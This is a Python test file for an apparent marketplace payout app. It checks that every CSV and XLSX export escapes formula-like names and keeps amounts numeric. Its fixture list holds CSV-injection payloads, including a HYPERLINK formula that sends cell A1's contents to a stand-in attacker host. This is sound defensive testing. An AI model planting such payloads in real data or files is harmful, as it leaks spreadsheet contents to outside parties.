"""No export runs code: every CSV/XLSX endpoint, with hostile names in the data.

A maker, product, category or account holder named like a formula must come out as text: in CSV a
cell starting with = + - @ tab or CR is quote-prefixed (unless it is a number, e.g. a refund's
negative amount), in XLSX no cell is a formula cell. The endpoints are found from the URL map, so a
new export endpoint fails here until it is added to the sweep.
"""

from __future__ import annotations

import csv
import io

import pytest
from flask import current_app
from openpyxl import load_workbook

from accounts.models import Role
from core.exports import csv_cell, csv_text, is_formula_like
from core.extensions import db
from makers.models import PayoutMethod
from payouts import services
from tests.factories import MakerFactory, MakerUserFactory, UserFactory
from tests.factories.payouts import key, product, refund, sell, shop

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+1+1", "-2+3", "@SUM(1+1)", "\r=1+1", "\t=1+1"]


def _exports() -> set[str]:
    return {rule.endpoint for rule in current_app.url_map.iter_rules()
            if rule.rule.endswith((".csv", ".xlsx"))}


@pytest.fixture
def hostile_shop():
    s = shop()
    maker = MakerFactory(sentra=s.sentra, name=HOSTILE[0], public_name=HOSTILE[1],
                         payout_method=PayoutMethod.BANK, bank_name=HOSTILE[3], account_number="-0012345",
                         account_holder=HOSTILE[4])
    item = product(s.sentra, maker=maker, name=HOSTILE[2], category=HOSTILE[5], price=100_000, bps=5_000)
    sale = sell(s, [(item, 2)])
    refund(s, sale, [(sale.lines[0].id, 1)])
    run = services.create_run(s.manager, s.sentra, cutoff_date=s.sentra.local_date(), client_key=key())
    services.approve_run(s.manager2, run)
    db.session.commit()
    return s, maker, run


def _is_number(text: str) -> bool:
    try:
        int(text)
    except ValueError:
        return False
    return True


def _assert_csv_safe(text: str, where: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells, where
    for cell in cells:
        assert not is_formula_like(cell) or _is_number(cell), f"{where}: {cell!r}"


def _assert_xlsx_safe(data: bytes, where: str) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} {cell.value!r}"
                values.append(cell.value)
    return values


def test_every_csv_and_xlsx_export_writes_hostile_names_as_text(client, login_as, hostile_shop):
    s, maker, run = hostile_shop
    manager_urls = {
        "payouts.run_transfer_csv": [f"/payouts/runs/{run.id}/transfer.csv"],
        "reports.export_csv": [f"/reports/ekspor.csv?per={per}" for per in ("maker", "category", "day")],
        "reports.export_xlsx": [f"/reports/ekspor.xlsx?per={per}" for per in ("maker", "category", "day")],
    }
    maker_urls = {"payouts.portal_sales_csv": ["/payouts/saya/penjualan.csv"]}
    assert _exports() == set(manager_urls) | set(maker_urls), "a new export endpoint: add it to this sweep"

    maker_user = MakerUserFactory(maker=maker)
    seen: list[object] = []
    for who, urls in ((s.manager, manager_urls), (maker_user, maker_urls)):
        login_as(who)
        for paths in urls.values():
            for path in paths:
                response = client.get(path)
                assert response.status_code == 200, path
                if path.split("?")[0].endswith(".xlsx"):
                    seen += _assert_xlsx_safe(response.data, path)
                else:
                    _assert_csv_safe(response.text, path)
                    seen += [c for row in csv.reader(io.StringIO(response.text)) for c in row]
    # The hostile text is there, as text (escaped in CSV, verbatim string cells in XLSX).
    assert "'" + HOSTILE[0] in seen and HOSTILE[0] in seen
    assert "'" + HOSTILE[2] in seen and HOSTILE[5] in seen
    assert "'" + HOSTILE[4] in seen and "'-0012345" in seen
    # Amounts stay numbers: the maker's own CSV shows the refund as a plain negative number.
    rows = list(csv.reader(io.StringIO(client.get("/payouts/saya/penjualan.csv").text)))
    refund_row = next(row for row in rows if row[-1] == "pengembalian")
    assert refund_row[6] == "-50000"


def test_xlsx_export_keeps_numbers_numeric_and_formula_text_as_string_cells(client, login_as, hostile_shop):
    login_as(UserFactory(role=Role.ADMIN))
    book = load_workbook(io.BytesIO(client.get("/reports/ekspor.xlsx?per=maker").data))
    sheet = book["Ringkasan"]
    hostile = next(row for row in sheet.iter_rows() if row[0].value == HOSTILE[0])
    assert hostile[0].data_type == "s"
    assert all(isinstance(cell.value, int) for cell in hostile[1:4])


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+62812", "'+62812"), ("-x", "'-x"), ("@me", "'@me"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Batik", "Batik"), ("a=b", "a=b"), (-150_000, -150_000), (0, 0), (None, ""),
])
def test_csv_cells_starting_with_a_formula_character_are_quote_prefixed(value, expected):
    assert csv_cell(value) == expected
    assert csv_text([[value]]).strip("\r\n").strip('"') in (str(expected), "")
